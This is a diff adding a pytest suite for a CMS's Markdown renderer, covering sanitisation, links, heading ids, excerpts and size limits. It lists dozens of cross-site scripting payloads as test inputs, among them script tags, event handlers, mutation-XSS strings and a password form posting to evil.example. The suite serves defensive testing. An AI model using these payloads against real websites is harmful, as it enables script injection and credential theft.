@@ -1,0 +1,434 @@
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from mdit_py_plugins.gfm import gfm_plugin
+
+from cms.core.markdown import (
+    MAX_SOURCE_BYTES,
+    Heading,
+    Rendered,
+    TooLarge,
+    highlight_css,
+    render,
+)
+from tests.core.safe_html import Elements, flaws
+
+ROOT = Path(__file__).parents[2]
+SEED = ROOT / "../shared/seed/apa-itu-backend-developer.txt"
+
+# Each of these does harm without a sanitiser: `test_without_defences...` proves it one by one.
+LIVE = {
+    # Link schemes, as written and as browsers read them.
+    "javascript link": "[a](javascript:alert(1))",
+    "mixed case": "[a](JaVaScRiPt:alert(1))",
+    "entity in the scheme": "[a](&#106;avascript:alert(1))",
+    "hexadecimal entity": "[a](java&#x73;cript:alert(1))",
+    "named entity for the colon": "[a](javascript&colon;alert(1))",
+    "escaped colon": r"[a](javascript\:alert(1))",
+    "pointy brackets": "[a](<javascript:alert(1)>)",
+    "vbscript": "[a](vbscript:msgbox(1))",
+    "data page": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "file": "[a](file:///etc/passwd)",
+    "blob": "[a](blob:https://example.com/1)",
+    "app scheme": "[a](ms-msdt:/id)",
+    "feed wrapper": "[a](feed:javascript:alert(1))",
+    "view-source": "[a](view-source:https://example.com)",
+    "autolink": "<javascript:alert(1)>",
+    "autolink of data": "<data:text/html,x>",
+    "autolink of an odd scheme": "<xmpp:a@b.example>",
+    "reference": "[a][b]\n\n[b]: javascript:alert(1)",
+    "reference with a title": '[a]\n\n[a]: vbscript:x "onclick=alert(1)"',
+    "image": "![a](javascript:alert(1))",
+    "image of SVG data": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
+    "image of PNG data": "![a](data:image/png;base64,AAAA)",
+    "image reference": "![a][b]\n\n[b]: data:text/html,x",
+    "image in a link": "[![a](javascript:1)](javascript:2)",
+    # Raw HTML.
+    "script": "<script>alert(1)</script>",
+    "script in a line": "a <script>alert(1)</script> b",
+    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "handler": "<img src=x onerror=alert(1)>",
+    "handler after a slash": "<div><img/src=x/onerror=alert(1)>",
+    "handler without a value": "<p onclick>x</p>",
+    "handler on a heading": "<h1 onmouseover=alert(1)>x</h1>",
+    "handler of details": "<details open ontoggle=alert(1)>x</details>",
+    "handler with a newline": "<div><img src=x\nonerror\n=\nalert(1)>",
+    "body": "<body onload=alert(1)>",
+    "link with a tab": '<a href="java\tscript:alert(1)">x</a>',
+    "link with a control": '<a href="\x01javascript:alert(1)">x</a>',
+    "link with spaces before": '<a href="  javascript:alert(1)">x</a>',
+    "link with entities": "<a href=&#106&#97&#118&#97script:alert(1)>x</a>",
+    "second href": '<a href="javascript:1" href="/ok">x</a>',
+    "xlink": '<a xlink:href="javascript:alert(1)">x</a>',
+    "ping and target": '<a href="/x" ping="//evil.example" target=_blank>x</a>',
+    "iframe": "<iframe src=javascript:alert(1)></iframe>",
+    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "object": "<object data=javascript:alert(1)></object>",
+    "embed": "<embed src=//evil.example/x.swf>",
+    "form": "<form action=//evil.example><input name=password><button>x</button></form>",
+    "formaction": "<button formaction=javascript:alert(1)>x</button>",
+    "image button": "<input type=image src=x onerror=alert(1)>",
+    "enabled checkbox": "<input type=checkbox>",
+    "label and select": "<label>x<select><option>y</select></label>",
+    "base": "<base href=//evil.example/>",
+    "meta refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    "stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
+    "style element": "<style>@import '//evil.example/x.css';</style>",
+    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
+    "srcset": '<img src=x srcset="javascript:alert(1) 1x, //evil.example/y 2x">',
+    "picture source": "<picture><source srcset=javascript:alert(1)><img src=x></picture>",
+    "video": "<video poster=javascript:alert(1) src=x></video>",
+    "SVG": "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "SVG animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
+    "SVG use": "<svg><use href=data:image/svg+xml,x></use></svg>",
+    "MathML": "<math href=javascript:alert(1)>x</math>",
+    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
+    "processing instruction": "<?xml version='1.0'?>",
+    "CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+    "unknown element": "<x-foo onclick=alert(1)>x</x-foo>",
+    "marquee": "<marquee onstart=alert(1)>x</marquee>",
+    # Names that shadow a page's own (DOM clobbering) and its styles.
+    "clobbering id": "<p id=location>x</p>",
+    "clobbering name": "<img src=x name=cookie>",
+    "class of the page": '<p class="modal admin-bar">x</p>',
+    "class of a state": "<div class='fixed inset-0 z-50'>x</div>",
+    # Mutations: harmless until a browser parses what a sanitiser printed.
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "MathML and style": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;"
+    "img src=1 onerror=alert(1)&gt;'>",
+    "SVG and style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "form in table": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=1>",
+    "template": "<template><img src=x onerror=alert(1)></template>",
+    "textarea": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
+    "title": '<title><p title="</title><img src=x onerror=alert(1)>">',
+    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
+    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
+    "noembed": "<noembed><img src='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "select": "<select><style></select><img src=x onerror=alert(1)></style>",
+    "foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "annotation": "<math><annotation-xml encoding=text/html><img src=x onerror=1></math>",
+    "split by Markdown": "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
+    "in a table cell": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "in a heading": "# <img src=x onerror=alert(1)>",
+    "in a footnote": "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
+    "in an emphasis": "*<img src=x onerror=alert(1)>*",
+}
+# Dead on arrival in a correct Markdown parser, each a way out of an incorrect one.
+DEAD = {
+    "entity for a tab": "[a](java&Tab;script:alert(1))",
+    "entity for a newline": "[a](java&NewLine;script:alert(1))",
+    "fence language": '``` "><img src=x onerror=alert(1)>\nx\n```',
+    "fence attribute": '```python" onclick="alert(1)\nx\n```',
+    "fence content": "```html\n<script>alert(1)</script>\n```",
+    "tilde fence": '~~~ `"><script>\nx\n~~~',
+    "code span": "`<img src=x onerror=alert(1)>`",
+    "title with a quote": "[a](/x \"b' onclick='alert(1)\")",
+    "title with an entity": "[a](/x '&quot; onclick=&quot;alert(1)')",
+    "alt text": '![" onerror="alert(1)](/x)',
+    "alt with markup": "![<script>alert(1)</script>](/x)",
+    "address with a quote": '[a](/x"onclick="alert(1))',
+    "footnote label": 'a[^"><img/src=x/onerror=alert(1)>]\n\n[^"><img/src=x/onerror=alert(1)>]: b',
+    "admonition kind": '::: note" onclick="alert(1)\nx\n:::',
+    "admonition title": "::: tip <img src=x onerror=alert(1)>\nx\n:::",
+    "heading id": '# "><img/src=x>\n\n# location\n\n# __proto__\n\n# constructor',
+    "escaped element": r"\<script>alert(1)\</script>",
+    "entities of an element": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "bare address with a quote": "https://example.com/\"onmouseover='alert(1)'",
+    "spaced scheme": "[a](java script:alert(1))",
+    "null in an element": "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "unclosed quote": '<img alt="\n\n# Judul\n\n"onerror=alert(1)>',
+}
+
+
+def without_defences(source: str) -> str:
+    markdown = MarkdownIt("commonmark", {"html": True}).use(gfm_plugin)
+    object.__setattr__(markdown, "validateLink", lambda _url: True)
+    return str(markdown.render(source))
+
+
+@pytest.mark.parametrize("name", LIVE | DEAD)
+def test_nothing_but_the_allowed_html_survives(name: str) -> None:
+    assert flaws(render((LIVE | DEAD)[name]).html) == []
+
+
+@pytest.mark.parametrize("name", LIVE)
+def test_without_defences_each_live_payload_is_caught_by_the_oracle(name: str) -> None:
+    assert flaws(without_defences(LIVE[name])) != []
+
+
+# Whole payloads, openings of blocks, and crumbs to break both with.
+PIECES = (
+    st.sampled_from([*LIVE.values(), *DEAD.values()])
+    | st.sampled_from(["\n\n", "\n> ", "\n- ", "\n# ", "\n```html\n", "[^1]", "[^1]: ", "::: tip"])
+    | st.text("\n\t <>\"'`=/[]()!&#;:|~*_\\-^\x00aox1", max_size=12)
+    | st.text(max_size=8)
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(PIECES, max_size=12).map("".join))
+def test_whatever_is_pieced_together_only_allowed_html_comes_out(source: str) -> None:
+    rendered = render(source)
+    assert flaws(rendered.html) == []
+    anchors = set(re.findall(r'<h[1-6] id="([^"]*)"', rendered.html))
+    assert {heading.id for heading in flat(rendered.toc)} <= anchors
+    assert len(rendered.excerpt) <= 200
+
+
+def flat(headings: tuple[Heading, ...]) -> list[Heading]:
+    return [each for heading in headings for each in (heading, *flat(heading.children))]
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("~~x~~", "<p><s>x</s></p>\n"),
+        ("3. x\n4. y", '<ol start="3">\n<li>x</li>\n<li>y</li>\n</ol>\n'),
+        ("1) x", "<ol>\n<li>x</li>\n</ol>\n"),
+        ('"x" -- (c)...', '<p>"x" -- (c)...</p>\n'),
+        ("a\r\nb\rc", "<p>a\nb\nc</p>\n"),
+        ("a\x00b\x01c\ud800", "<p>a\ufffdb\ufffdc\ufffd</p>\n"),
+        ("<p>&#1;&#xFFFE;</p>", "<p>\ufffd\ufffd</p>"),
+        ("\ufeff# x", '<h1 id="h-x">x</h1>\n'),
+        ("<!-- hidden -->", ""),
+        ("", ""),
+        ("a <kbd>Ctrl</kbd> <u>b", "<p>a <kbd>Ctrl</kbd> <u>b</u></p><u>\n</u>"),
+        ("> [!TIP]\n> x", '<div class="admonition tip" role="note">\n<p>x</p>\n</div>\n'),
+        ("::: note\nx\n:::", '<div class="admonition note" role="note">\n<p>x</p>\n</div>\n'),
+        ("::: odd\nx\n:::", "<p>::: odd\nx\n:::</p>\n"),
+        ("    <x>", '<pre tabindex="0"><code>&lt;x&gt;\n</code></pre>\n'),
+        ("```nope\n<x>\n```", '<pre tabindex="0"><code>&lt;x&gt;\n</code></pre>\n'),
+    ],
+)
+def test_the_dialect(source: str, expected: str) -> None:
+    assert render(source).html == expected
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("https://example.com/a?b=1", 'href="https://example.com/a?b=1" rel="noopener noreferrer"'),
+        ("www.example.com", 'href="http://www.example.com" rel="noopener noreferrer"'),
+        ("a@example.com", 'href="mailto:a@example.com">'),
+        ("[a](//example.com)", 'href="//example.com" rel="noopener noreferrer"'),
+        (r'<a href="/\example.com">a</a>', r'href="/\example.com" rel="noopener noreferrer"'),
+        ("<a href='ht\ntps://example.com'>a</a>", 'href="https://example.com" rel="noopener'),
+        ("[a](/b)", 'href="/b">'),
+        ("[a](b#c)", 'href="b#c">'),
+        ("<a href=/b rel=nofollow>a</a>", 'href="/b">'),
+    ],
+)
+def test_only_a_link_that_leaves_the_site_says_so(source: str, expected: str) -> None:
+    assert expected in render(source).html
+
+
+@pytest.mark.parametrize(
+    "source", ["foo:bar", "xmpp:a@example.com", "javascript:alert(1)", "ftp://example.com"]
+)
+def test_a_bare_address_of_an_odd_scheme_stays_text(source: str) -> None:
+    rendered = render(f"a {source} b")
+    assert "href" not in rendered.html.replace("mailto:", "")
+    assert rendered.excerpt == f"a {source} b"
+
+
+def test_a_table_keeps_its_alignment_without_styles() -> None:
+    table = render("| a | b |\n|:-:|--:|\n| 1 | 2 |").html
+    assert '<th align="center">a</th>' in table
+    assert '<td align="right">2</td>' in table
+    assert "style" not in table
+
+
+def test_an_admonition_takes_its_authors_title() -> None:
+    page = render("::: warning Awas <b>\n*x*\n:::").html
+    assert '<p class="admonition-title">Awas &lt;b&gt;</p>\n<p><em>x</em></p>' in page
+
+
+def test_a_task_list_has_disabled_boxes_named_by_their_items() -> None:
+    boxes = Elements(render("- [x] selesai\n- [ ] belum\n- lain").html).named("input")
+    assert [(box["type"], box["aria-labelledby"], "checked" in box) for box in boxes] == [
+        ("checkbox", "task-1", True),
+        ("checkbox", "task-2", False),
+    ]
+    assert all("disabled" in box for box in boxes)
+
+
+def test_a_box_in_raw_html_is_dropped() -> None:
+    source = "a <input type=checkbox disabled class=task-list-item-checkbox> b"
+    assert render(source).html == "<p>a  b</p>\n"
+
+
+def test_code_is_highlighted_by_classes() -> None:
+    assert render("```PY title='x'\nx = 1\n```").html.startswith(
+        '<pre class="highlight" tabindex="0"><code class="language-python"><span class="n">x</span>'
+    )
+
+
+def test_an_image_keeps_its_size_and_loads_lazily() -> None:
+    source = '<img src="/a.png" alt="b" title="c" width=10 height="9px">'
+    assert render(source).html == (
+        '<img src="/a.png" alt="b" title="c" width="10" loading="lazy" decoding="async">'
+    )
+    assert render("![a](mailto:b@example.com)").html == "<p></p>\n"
+
+
+def test_footnotes_link_there_and_back_under_unique_ids() -> None:
+    page = Elements(render("a[^x] b[^y] c[^x]\n\n[^y]: Y\n[^x]: X\n").html)
+    ids = page.ids()
+    assert ids == ["fnref-1", "fnref-2", "fnref-1-2", "fn-1", "fn-2"]
+    targets = [link["href"] for link in page.named("a")]
+    assert targets == ["#fn-1", "#fn-2", "#fn-1", "#fnref-1", "#fnref-1-2", "#fnref-2"]
+    assert {link["role"] for link in page.named("a")} == {"doc-noteref", "doc-backlink"}
+    assert page.named("section") == [{"class": "footnotes", "role": "doc-endnotes"}]
+
+
+@pytest.mark.parametrize(
+    ("titles", "ids"),
+    [
+        (["Apa itu?", "Apa itu?", "Apa itu"], ["h-apa-itu", "h-apa-itu-2", "h-apa-itu-3"]),
+        (["a", "a-2", "a"], ["h-a", "h-a-2", "h-a-3"]),
+        (["a-2", "a", "a"], ["h-a-2", "h-a", "h-a-3"]),
+        (["", "!!!", "<br>"], ["h-section", "h-section-2", "h-section-3"]),
+        (["Ünïcode 日本語"], ["h-unicode-ribenyu"]),
+        (["`code` & *more*[^1]"], ["h-code-more"]),
+        (["x" * 200], ["h-" + "x" * 80]),
+        # What these name on `window` and `document` must stay what it is.
+        (["location", "constructor", "__proto__"], ["h-location", "h-constructor", "h-proto"]),
+        (["fn-1", "task-1"], ["h-fn-1", "h-task-1"]),
+    ],
+)
+def test_headings_get_readable_unique_ids_that_shadow_nothing(
+    titles: list[str], ids: list[str]
+) -> None:
+    source = "\n\n".join(f"# {title}" for title in titles) + "\n\n[^1]: x"
+    headings = Elements(render(source).html).named("h1")
+    assert [heading["id"] for heading in headings] == ids
+
+
+@pytest.mark.parametrize("forged", ["h-isi", "fn-1", "fnref-1", "task-1", "isi", "location"])
+def test_an_id_of_the_authors_never_passes_for_ours(forged: str) -> None:
+    source = f"<p id={forged}>x</p>\n\n# Isi[^1]\n\n- [x] <b id={forged}>y</b>\n\n[^1]: z"
+    assert Elements(render(source).html).ids() == ["h-isi", "fnref-1", "task-1", "fn-1"]
+
+
+def test_a_link_written_for_github_finds_its_heading() -> None:
+    page = render("[a](#mulai) [b](#日本語) [c](#lain)\n\n# Mulai\n\n# 日本語").html
+    assert [link["href"] for link in Elements(page).named("a")] == [
+        "#h-mulai",
+        "#h-ribenyu",
+        "#lain",
+    ]
+
+
+def test_the_table_of_contents_nests_by_level() -> None:
+    source = "## A\n\n#### B & *C*\n\n### D[^1]\n\n# E\n\n#\n\n> # F\n\n<h2>G</h2>\n\n[^1]: x"
+    assert render(source).toc == (
+        Heading("h-a", 2, "A", (Heading("h-b-c", 4, "B & C", ()), Heading("h-d", 3, "D", ()))),
+        Heading("h-e", 1, "E", ()),
+    )
+
+
+@pytest.mark.parametrize(
+    ("source", "excerpt"),
+    [
+        ("# Judul\n\nIsi *tebal* &amp; `kode`[^1].\n\n[^1]: x", "Isi tebal & kode."),
+        ("![a](/b)\n\n> kutipan\n\n```\nkode\n```\n\n- butir\n\nIsi.", "Isi."),
+        ("Halo.\n\nIni isinya.", "Halo. Ini isinya."),
+        ("a\nb\\\nc<br>d", "a b c d"),
+        ("- satu\n- dua", "satu dua"),
+        ("# Judul saja", "Judul saja"),
+        ("<script>x</script>&lt;b&gt;", "<b>"),
+        ("", ""),
+    ],
+)
+def test_the_excerpt_is_the_first_plain_text(source: str, excerpt: str) -> None:
+    assert render(source).excerpt == excerpt
+
+
+def test_a_long_excerpt_ends_at_a_word() -> None:
+    excerpt = render("kata, " * 100).excerpt
+    assert excerpt.endswith("kata\u2026")
+    assert 190 < len(excerpt) <= 200
+
+
+def test_a_long_excerpt_without_spaces_does_not_split_a_character() -> None:
+    excerpt = render("か\u3099" * 150).excerpt
+    assert len(excerpt) <= 200
+    assert excerpt.endswith("\u3099\u2026")
+
+
+@pytest.mark.parametrize(
+    ("source", "words"),
+    [
+        ("Buku-buku itu don't cost 3.11 user_id", 6),
+        ("**te**bal", 1),
+        ("- satu\n- dua", 2),
+        ("日本語 abc", 4),
+        ("カタカナ。", 4),
+        ("한국어 단어", 2),
+        ("a `b c`\n\n```\nd e f\n```", 3),
+        ("a[^1]\n\n[^1]: b", 2),
+        ("![alt](/a)", 0),
+        ("<style>a b</style>", 0),
+    ],
+)
+def test_words_are_counted_as_a_reader_sees_them(source: str, words: int) -> None:
+    assert render(source).word_count == words
+
+
+@pytest.mark.parametrize(
+    ("source", "minutes"),
+    [("", 1), ("a " * 200, 1), ("a " * 201, 2), ("日" * 500, 1), ("日" * 501, 2)],
+)
+def test_reading_takes_200_words_or_500_characters_a_minute(source: str, minutes: int) -> None:
+    assert render(source).reading_minutes == minutes
+
+
+def test_the_source_may_have_256_kib_and_no_byte_more() -> None:
+    assert isinstance(render("é" * (MAX_SOURCE_BYTES // 2)), Rendered)
+    with pytest.raises(TooLarge, match="262146"):
+        render("é" * (MAX_SOURCE_BYTES // 2 + 1))
+
+
+def test_html_beyond_2_mib_is_refused() -> None:
+    with pytest.raises(TooLarge, match="bytes of HTML"):
+        render("```python\n" + "x+" * 120_000 + "\n```")
+
+
+def test_the_same_source_gives_the_same_bytes_in_any_process() -> None:
+    source = "\n\n".join((LIVE | DEAD).values())
+    script = "import sys; from cms.core.markdown import render; print(ascii(render(sys.argv[1])))"
+    answers = {
+        subprocess.run(
+            [sys.executable, "-c", script, source.replace("\x00", "")],
+            env={**os.environ, "PYTHONHASHSEED": seed},
+            cwd=ROOT,
+            capture_output=True,
+            check=True,
+        ).stdout
+        for seed in ("1", "2", "3")
+    }
+    assert answers == {ascii(render(source.replace("\x00", ""))).encode() + b"\n"}
+
+
+def test_the_stylesheet_touches_only_highlighted_code() -> None:
+    css = highlight_css()
+    assert "prefers-color-scheme: dark" in css
+    selectors = [line for line in css.splitlines() if "{" in line and not line.startswith("@")]
+    assert len(selectors) > 100
+    assert all(line.startswith(".highlight") for line in selectors)
+
+
+def test_the_seed_article_keeps_its_two_numbered_lists() -> None:
+    if not SEED.exists():
+        pytest.skip("the seed article stands beside the repository, not in it")
+    source = re.sub(r"^\s+(?=\d+\. )", "", SEED.read_text(), flags=re.MULTILINE)
+    page = Elements(render(source).html)
+    assert page.children_of("ol") == [["li"] * 5, ["li"] * 7]
+    assert flaws(render(source).html) == []
